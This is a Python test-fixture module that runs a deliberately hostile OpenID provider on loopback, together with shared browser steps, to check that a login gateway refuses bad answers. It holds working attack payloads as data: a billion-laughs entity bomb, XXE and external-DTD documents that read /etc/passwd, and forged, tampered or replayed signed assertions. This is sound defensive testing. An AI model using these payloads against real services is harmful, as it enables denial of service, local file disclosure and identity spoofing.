"""A configurable hostile OpenID provider, and the browser steps the hostile-input tests share.

:class:`HostileProvider` is a real python3-openid server (``Server`` +
``MemoryStore``) on a loopback port. It answers ``checkid_setup`` at once (no
consent page) and misbehaves as its :class:`Misbehaviour` says: assert another
identifier, edit the answer before signing it (properly signed lies: a stale
nonce, a foreign ``return_to``), tamper with the redirect after signing,
sign with a handle the relying party never associated, refuse associations,
answer ``check_authentication`` honestly, always "no", always "yes" (a lying
OP) or never (a hang), and answer everything slowly (``delay``). It also
serves hostile discovery documents:

- ``/openid``            OP identifier (XRDS, identifier_select) → ``/endpoint``
- ``/id/<user>``         claimed identifier (XRDS), or a page delegating to another OP
- ``/bomb``, ``/xxe``, ``/external-dtd``  XRDS with entity expansion / external entities
- ``/huge``              20 MiB of HTML (``?chunked=1``: no Content-Length)
- ``/loop``, ``/chain/<n>``  redirects to itself / to an ever longer chain

What it received is counted in :attr:`HostileProvider.seen` (OpenID modes and
paths), so a test can tell which check actually refused an answer.
"""

from __future__ import annotations

import asyncio
import copy
import threading
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable, Mapping
from dataclasses import dataclass, field
from typing import Any, Literal
from urllib.parse import urljoin

import httpx
import pytest
from openid.extensions import ax, sreg
from openid.message import OPENID2_NS, Message
from openid.oidutil import appendArgs
from openid.server.server import CheckIDRequest, OpenIDResponse, ProtocolError, Server
from openid.store.memstore import MemoryStore
from openid.store.nonce import mkNonce
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import RedirectResponse, Response, StreamingResponse
from starlette.routing import Route

from tests.htmlforms import forms
from tests.servers import UvicornThread, free_port
from tests.signin_steps import sign_in

OPENID2_SERVER = "http://specs.openid.net/auth/2.0/server"
OPENID2_SIGNON = "http://specs.openid.net/auth/2.0/signon"
AX_EMAIL = "http://axschema.org/contact/email"
AX_NICKNAME = "http://axschema.org/namePerson/friendly"
SREG_NS = "http://openid.net/extensions/sreg/1.1"
AX_NS = "http://openid.net/srv/ax/1.0"
HUGE_BYTES = 20 * 1024 * 1024
CHUNK = 64 * 1024
HANG_LIMIT = 30.0

XRDS = """<?xml version="1.0" encoding="UTF-8"?>
<xrds:XRDS xmlns:xrds="xri://$xrds" xmlns="xri://$xrd*($v*2.0)"><XRD><Service priority="0">
<Type>{type}</Type><URI>{endpoint}</URI>{local_id}</Service></XRD></xrds:XRDS>"""

_LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE xrds:XRDS [<!ENTITY lol0 "lol">{_LAUGHS}]>
<xrds:XRDS xmlns:xrds="xri://$xrds" xmlns="xri://$xrd*($v*2.0)"><XRD><Service priority="0">
<Type>{OPENID2_SERVER}</Type><URI>{{endpoint}}?&lol9;</URI></Service></XRD></xrds:XRDS>"""
# If an entity were expanded, the file would ride in the endpoint URL the browser is sent to.
XXE = f"""<?xml version="1.0"?>
<!DOCTYPE xrds:XRDS [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xrds:XRDS xmlns:xrds="xri://$xrds" xmlns="xri://$xrd*($v*2.0)"><XRD><Service priority="0">
<Type>{OPENID2_SERVER}</Type><URI>{{endpoint}}?leak=&xxe;</URI></Service></XRD></xrds:XRDS>"""
EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE xrds:XRDS [<!ENTITY % dtd SYSTEM "{{base}}/evil.dtd"> %dtd;]>
<xrds:XRDS xmlns:xrds="xri://$xrds" xmlns="xri://$xrd*($v*2.0)"><XRD><Service priority="0">
<Type>{OPENID2_SERVER}</Type><URI>{{endpoint}}</URI></Service></XRD></xrds:XRDS>"""
HOSTILE_DOCUMENTS = {"/bomb": BILLION_LAUGHS, "/xxe": XXE, "/external-dtd": EXTERNAL_DTD}

CheckAuthentication = Literal["honest", "invalid", "lie", "hang"]


@dataclass
class Misbehaviour:
    """What the hostile provider does wrong; the defaults make it a well-behaved provider.

    ``delay``: every discovery document and endpoint answer waits that many
    seconds (a slow provider), or until :attr:`HostileProvider.release` is set.
    ``claimed_id``/``local_id``: the identifier to assert (default: the one
    asked for; for identifier_select ``<base>/id/mallory``). ``before_signing``
    edits the answer's message (the lie is signed); ``after_signing`` edits
    the redirect's query (the lie is not). ``delegate``: ``/id/<user>`` pages
    name this ``(endpoint, local_id)`` instead of the hostile endpoint.
    """

    claimed_id: str | None = None
    local_id: str | None = None
    sreg: Mapping[str, str] = field(default_factory=lambda: {"nickname": "mallory", "email": "mallory@hostile.test"})
    ax: Mapping[str, str] = field(default_factory=dict)
    before_signing: Callable[[Message], object] | None = None
    after_signing: Callable[[dict[str, str]], object] | None = None
    unknown_handle: bool = False
    associate: bool = True
    check_authentication: CheckAuthentication = "honest"
    delegate: tuple[str, str] | None = None
    delay: float = 0.0


class HostileProvider:
    """The hostile provider on ``127.0.0.1:<port>``; use as a context manager."""

    def __init__(self) -> None:
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.endpoint = self.url + "/endpoint"
        self.op_identifier = self.url + "/openid"
        self.misbehaviour = Misbehaviour()
        self.seen: Counter[str] = Counter()
        self.release = threading.Event()
        self.server = Server(MemoryStore(), self.endpoint)
        self._thread = UvicornThread(self._app(), port=self.port)

    def identifier(self, user: str = "mallory") -> str:
        return f"{self.url}/id/{user}"

    def misbehave(self, **changes: Any) -> None:
        self.misbehaviour = Misbehaviour(**changes)

    def __enter__(self) -> HostileProvider:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.release.set()  # let hung requests end, or uvicorn waits for them
        self._thread.stop()

    # -- the OP endpoint ----------------------------------------------------------------

    async def _endpoint(self, request: Request) -> Response:
        await self._slow()
        args = dict(request.query_params)
        if request.method == "POST":
            async with request.form() as form:
                args.update({k: v for k, v in form.items() if isinstance(v, str)})
        try:
            openid_request = self.server.decodeRequest(args)
        except ProtocolError as error:
            return self._web(error)
        mode = openid_request.mode
        self.seen[mode] += 1
        if isinstance(openid_request, CheckIDRequest):
            return RedirectResponse(self.assertion(openid_request), status_code=302)
        if mode == "associate" and not self.misbehaviour.associate:
            return self._web(ProtocolError(openid_request.message, "no associations here"))
        if mode == "check_authentication":
            verdict = self.misbehaviour.check_authentication
            if verdict == "hang":
                await self._hang()
            elif verdict in ("invalid", "lie"):
                body = f"ns:{OPENID2_NS}\nis_valid:{'true' if verdict == 'lie' else 'false'}\n"
                return Response(body, media_type="text/plain")
        return self._web(self.server.handleRequest(openid_request))

    def _web(self, answer: OpenIDResponse | ProtocolError) -> Response:
        web = self.server.encodeResponse(answer)
        return Response(web.body, status_code=web.code, headers=web.headers)

    async def _hang(self, limit: float = HANG_LIMIT) -> None:
        deadline = time.monotonic() + min(limit, HANG_LIMIT)
        while not self.release.is_set() and time.monotonic() < deadline:
            await asyncio.sleep(0.05)

    async def _slow(self) -> None:
        """``Misbehaviour.delay``: count the request in ``seen["slow"]``, then take that long to answer."""
        if self.misbehaviour.delay > 0:
            self.seen["slow"] += 1
            await self._hang(self.misbehaviour.delay)

    def assertion(self, request: CheckIDRequest) -> str:
        """The callback URL of a positive assertion, misbehaving as configured."""
        wrong = self.misbehaviour
        if request.idSelect():
            claimed_id = wrong.claimed_id or self.identifier()
            answer = request.answer(True, identity=wrong.local_id or claimed_id, claimed_id=claimed_id)
        else:
            answer = request.answer(True)
            if wrong.claimed_id:
                answer.fields.setArg(OPENID2_NS, "claimed_id", wrong.claimed_id)
                answer.fields.setArg(OPENID2_NS, "identity", wrong.local_id or wrong.claimed_id)
        if wrong.sreg:
            answer.addExtension(sreg.SRegResponse.extractResponse(sreg.SRegRequest.fromOpenIDRequest(request),
                                                                  dict(wrong.sreg)))
        if wrong.ax:
            fetch = ax.FetchResponse(ax.FetchRequest.fromOpenIDRequest(request))
            for type_uri, value in wrong.ax.items():
                fetch.addValue(type_uri, value)
            answer.addExtension(fetch)
        if wrong.before_signing:
            wrong.before_signing(answer.fields)
        args = self._sign(answer).fields.toPostArgs()
        if wrong.after_signing:
            wrong.after_signing(args)
        return str(appendArgs(request.return_to, args))

    def _sign(self, answer: OpenIDResponse) -> OpenIDResponse:
        if not self.misbehaviour.unknown_handle:
            return self.server.signatory.sign(answer)
        # A "smart" association the relying party never asked for: only check_authentication can vouch for it.
        association = self.server.signatory.createAssociation(dumb=False)
        signed = copy.deepcopy(answer)
        signed.fields = association.signMessage(signed.fields)
        return signed

    # -- discovery documents ----------------------------------------------------------

    async def _op_xrds(self, request: Request) -> Response:
        await self._slow()
        return _xrds(XRDS.format(type=OPENID2_SERVER, endpoint=self.endpoint, local_id=""))

    async def _claimed_xrds(self, request: Request) -> Response:
        await self._slow()
        endpoint, local_id = self.misbehaviour.delegate or (self.endpoint, "")
        delegation = f"<LocalID>{local_id}</LocalID>" if local_id else ""
        return _xrds(XRDS.format(type=OPENID2_SIGNON, endpoint=endpoint, local_id=delegation))

    async def _hostile_xrds(self, request: Request) -> Response:
        return _xrds(HOSTILE_DOCUMENTS[request.url.path].format(base=self.url, endpoint=self.endpoint))

    async def _dtd(self, request: Request) -> Response:
        self.seen[request.url.path] += 1
        return Response('<!ENTITY leak SYSTEM "file:///etc/passwd">', media_type="application/xml-dtd")

    async def _huge(self, request: Request) -> Response:
        chunked = request.query_params.get("chunked") == "1"

        async def body() -> AsyncIterator[bytes]:
            block = b"<p>" + b"x" * (CHUNK - 8) + b"</p>\n"
            for _ in range(HUGE_BYTES // CHUNK):
                yield block

        headers = {} if chunked else {"Content-Length": str(HUGE_BYTES)}
        return StreamingResponse(body(), media_type="text/html", headers=headers)

    async def _loop(self, request: Request) -> Response:
        self.seen[request.url.path] += 1
        return RedirectResponse(request.url.path, status_code=302)

    async def _chain(self, request: Request) -> Response:
        self.seen["/chain"] += 1
        return RedirectResponse(f"/chain/{request.path_params['n'] + 1}", status_code=302)

    def _app(self) -> Starlette:
        return Starlette(routes=[
            Route("/openid", self._op_xrds),
            Route("/id/{user}", self._claimed_xrds),
            Route("/endpoint", self._endpoint, methods=["GET", "POST"]),
            *(Route(path, self._hostile_xrds) for path in HOSTILE_DOCUMENTS),
            Route("/evil.dtd", self._dtd),
            Route("/huge", self._huge),
            Route("/loop", self._loop),
            Route("/chain/{n:int}", self._chain),
        ])


def _xrds(text: str) -> Response:
    return Response(text, media_type="application/xrds+xml")


# -- edits for Misbehaviour.before_signing / after_signing ------------------------------------


def set_signed(name: str, value: str) -> Callable[[Message], None]:
    """Before signing: put ``openid.<name>=value`` in the answer (a signed lie)."""
    return lambda message: message.setArg(OPENID2_NS, name, value)


def drop_signed(*names: str) -> Callable[[Message], None]:
    """Before signing: leave ``openid.<name>`` out of the answer altogether."""
    def edit(message: Message) -> None:
        for name in names:
            message.delArg(OPENID2_NS, name)
    return edit


def stale_nonce(age: float) -> Callable[[Message], None]:
    """Before signing: a ``response_nonce`` from ``age`` seconds ago (negative: the future)."""
    return set_signed("response_nonce", mkNonce(int(time.time() - age)))


def drop(*names: str) -> Callable[[dict[str, str]], None]:
    """After signing: remove ``openid.<name>`` from the redirect."""
    def edit(args: dict[str, str]) -> None:
        for name in names:
            del args["openid." + name]
    return edit


def put(**fields: str) -> Callable[[dict[str, str]], None]:
    """After signing: set redirect fields (``openid__sreg__email`` means ``openid.sreg.email``)."""
    return lambda args: args.update({name.replace("__", "."): value for name, value in fields.items()})


def flip_signature(args: dict[str, str]) -> None:
    sig = args["openid.sig"]
    args["openid.sig"] = ("A" if sig[0] != "A" else "B") + sig[1:]


# -- browser steps and checks ---------------------------------------------------------------


def submit_identifier(client: httpx.Client, gateway_url: str, identifier: str) -> httpx.Response:
    """Type ``identifier`` on the login page and submit; the gateway's answer, not followed."""
    page = client.get(gateway_url + "/login")
    assert page.status_code == 200, page.text[:300]
    form = forms(page.text)[0]
    return client.post(urljoin(str(page.url), form.action), data={**dict(form.fields), "identifier": identifier},
                       follow_redirects=False)


def provider_request(client: httpx.Client, gateway_url: str, identifier: str) -> str:
    """The URL of the checkid request the gateway sends the browser to (redirect or auto-POST form)."""
    response = submit_identifier(client, gateway_url, identifier)
    if response.status_code == 200 and 'id="autopost"' in response.text:
        form = forms(response.text)[0]
        return str(httpx.URL(form.action).copy_merge_params(dict(form.fields)))
    assert response.status_code == 303, response.text[:300]
    return response.headers["location"]


def answer_of(client: httpx.Client, request_url: str) -> str:
    """Take a checkid request to a (hostile) provider; the callback URL it sends back, not opened."""
    answer = client.get(request_url, follow_redirects=False)
    assert answer.status_code == 302, answer.text[:300]
    return answer.headers["location"]


def hostile_answer(client: httpx.Client, gateway_url: str, identifier: str) -> str:
    """Start a sign-in and return the callback URL the provider answers with, not yet opened."""
    return answer_of(client, provider_request(client, gateway_url, identifier))


def with_raw_param(url: str, name: str, raw_value: str, raw_name: str | None = None) -> str:
    """``url`` with parameter ``name`` replaced by ``raw_name=raw_value``, sent as is (no re-encoding)."""
    base, _, query = url.partition("?")
    pairs = [pair for pair in query.split("&") if pair and pair.split("=", 1)[0] != name]
    return base + "?" + "&".join([*pairs, f"{raw_name or name}={raw_value}"])


def session_cookies(response: httpx.Response, name: str = "gw_session") -> list[str]:
    return [v for r in [*response.history, response] for v in r.headers.get_list("set-cookie")
            if v.startswith(name + "=") and "Max-Age=0" not in v]


def assert_refused(response: httpx.Response, code: str | None = "invalid") -> None:
    """A callback that ends on the login page with message ``code`` (None: any) and no session."""
    assert response.status_code == 303, (response.status_code, response.text[:300])
    location = response.headers["location"]
    assert location.startswith("/login?"), location
    assert code is None or f"m={code}" in location.split("?", 1)[1].split("&"), location
    assert session_cookies(response) == []


def assert_still_serving(client: httpx.Client, gateway_url: str) -> None:
    """The login page renders, and the protected app still needs a session."""
    assert client.get(gateway_url + "/login").status_code == 200
    protected = client.get(gateway_url + "/echo", follow_redirects=False)
    assert protected.status_code == 302 and protected.headers["location"].startswith("/login"), protected.text[:200]


def assert_normal_sign_in(client: httpx.Client, gateway_url: str, provider_url: str) -> None:
    """A well-behaved provider (the development one) still signs people in through this gateway."""
    sign_in(client, gateway_url, f"{provider_url}/id/alice", "alice")
    assert app_sees(client, gateway_url)["x-gateway-user"] == f"{provider_url}/id/alice"


def logged(caplog: pytest.LogCaptureFixture, logger: str = "gateway.login") -> str:
    """Everything ``logger`` said during the test, as one string."""
    return "\n".join(r.getMessage() for r in caplog.records if r.name == logger)


def app_sees(client: httpx.Client, gateway_url: str) -> dict[str, str]:
    """The X-Gateway-* identity headers the protected echo app received."""
    response = client.get(gateway_url + "/echo", follow_redirects=False)
    assert response.status_code == 200, response.text[:300]
    return {k.lower(): v for k, v in response.json()["headers"] if k.lower().startswith("x-gateway-")}

